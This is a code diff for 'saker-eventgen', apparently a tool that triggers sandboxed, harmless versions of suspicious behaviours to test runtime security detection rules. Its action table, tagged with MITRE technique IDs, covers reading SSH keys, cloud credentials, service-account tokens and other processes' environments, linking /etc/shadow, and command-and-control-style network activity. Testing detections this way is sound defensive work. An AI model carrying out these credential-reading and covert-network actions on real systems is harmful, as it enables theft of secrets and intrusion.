+	{ "read_ssh", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_ssh, n_read_ssh, "reads a file in a temporary .ssh directory" },
+	{ "read_private_key", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_private_key, n_read_private_key, "reads a temporary file named id_ed25519" },
+	{ "cloud_credentials", "T1552.001", ANY, "Read cloud or cluster credentials", a_cloud_creds, n_cloud_creds, "reads a temporary .aws/credentials" },
+	{ "service_account_token", "T1528", ANY, "Read service account token", a_sa_token, n_sa_token, "reads a token it writes under /run/secrets/kubernetes.io/serviceaccount" },
+	{ "proc_environ", "T1552", ANY, "Read environment of other process", a_proc_environ, n_proc_environ, "reads its child's /proc/PID/environ" },
+	{ "symlink_sensitive", "T1003.008", ANY, "Create symlink over sensitive files", a_symlink_sensitive, n_symlink_sensitive, "links /etc/shadow from a temporary symlink" },
+	{ "hardlink_sensitive", "T1003.008", ANY, "Create hardlink over sensitive files", a_hardlink_sensitive, n_hardlink_sensitive, "hard-links /etc/shadow, then removes the link" },
+	/* command and control */
+	{ "system_binary_network", "T1071", ANY, "System binary opened network connection", a_system_binary_network, n_system_binary_network, "a process named cat connects to 192.0.2.1:80 in a private network namespace" },
+	{ "ssh_nonstandard_port", "T1571", ANY, "Outbound ssh to non-standard port", a_ssh_nonstandard, n_ssh_nonstandard, "a process named ssh connects to 192.0.2.1:2222 in a private network namespace" },
+	{ "packet_socket", "T1040", ANY, "Packet socket created", a_packet_socket, n_packet_socket_as_dhclient, "opens and closes an AF_PACKET socket" },
+	{ "raw_socket", "T1095", ANY, "Raw IP socket created", a_raw_socket, n_raw_socket, "opens and closes a raw ICMP socket" },
+	{ "dns_tunnel", "T1071.004", ANY, "DNS tunnelling tool launched", a_dns_tunnel, n_dns_tunnel, "a no-op named iodine" },
+	{ NULL, NULL, ANY, NULL, NULL, NULL, NULL },
 };
 
-static int run_one(const struct action *a)
+static const char *where_name(enum where w)
+{
+	return w == HOST ? "host" : w == CONTAINER ? "container" : "any";
+}
+
+static int run_one(const struct action *a, bool near)
 {
 	int rc;
 
-	printf("%-24s %s\n", a->name, a->what);
+	printf("%-24s %s%s\n", a->name, near ? "(near miss) " : "", a->what);
 	fflush(stdout);
-	rc = a->run();
+	errno = 0;
+	rc = near ? a->near() : a->run();
 	if (rc)
 		printf("  (the behaviour was attempted; it returned %d: %s)\n", rc, strerror(errno));
 	return 0;
 }
 
+static void cleanup(void)
+{
+	rmdir(TMPDIR);
+}
+
 int main(int argc, char **argv)
 {
+	if (getenv(NOOP_ENV))
+		return 0;
+	if (getenv(SELFDEL_ENV)) {
+		char p[PATH_MAX];
+		ssize_t n = readlink("/proc/self/exe", p, sizeof(p) - 1);
+
+		if (n <= 0)
+			return 1;
+		p[n] = 0;
+		return unlink(p) ? 1 : 0;
+	}
 	prctl(PR_SET_NAME, "saker-eventgen", 0, 0, 0);
 	setvbuf(stdout, NULL, _IOLBF, 0);
+	{
+		ssize_t n = readlink("/proc/self/exe", self_exe, sizeof(self_exe) - 1);
+
+		self_exe[n > 0 ? n : 0] = 0;
+	}
 	if (argc == 2 && !strcmp(argv[1], "--list")) {
 		for (const struct action *a = actions; a->name; a++)
-			printf("%-24s %s\n", a->name, a->rules);
+			printf("%-24s %-10s %-9s %s\n", a->name, a->technique, where_name(a->where), a->rules);
 		return 0;
 	}
-	if (argc == 2 && !strcmp(argv[1], "--all")) {
+	if (argc == 2 && (!strcmp(argv[1], "--all") || !strcmp(argv[1], "--near-all"))) {
+		bool near = !strcmp(argv[1], "--near-all");
+
 		for (const struct action *a = actions; a->name; a++)
-			run_one(a);
-		rmdir(TMPDIR);
+			run_one(a, near);
+		cleanup();
 		return 0;
 	}
-	if (argc == 3 && !strcmp(argv[1], "--action")) {
-		for (const struct action *a = actions; a->name; a++)
-			if (!strcmp(a->name, argv[2])) {
-				run_one(a);
-				rmdir(TMPDIR);
-				return 0;
+	if (argc >= 3 && (!strcmp(argv[1], "--action") || !strcmp(argv[1], "--near"))) {
+		bool near = !strcmp(argv[1], "--near");
+
+		for (int i = 2; i < argc; i++) {
+			const struct action *a;
+
+			for (a = actions; a->name; a++)
+				if (!strcmp(a->name, argv[i]))
+					break;
+			if (!a->name) {
+				fprintf(stderr, "saker-eventgen: unknown action '%s' (see --list)\n", argv[i]);
+				return 1;
 			}
-		fprintf(stderr, "saker-eventgen: unknown action '%s' (see --list)\n", argv[2]);
-		return 1;
+			run_one(a, near);
+		}
+		cleanup();
+		return 0;
 	}
-	fprintf(stderr, "usage: saker-eventgen --list | --action NAME | --all\n");
+	fprintf(stderr, "usage: saker-eventgen --list | --action NAME... | --near NAME... | --all | --near-all\n");
 	return 1;
 }
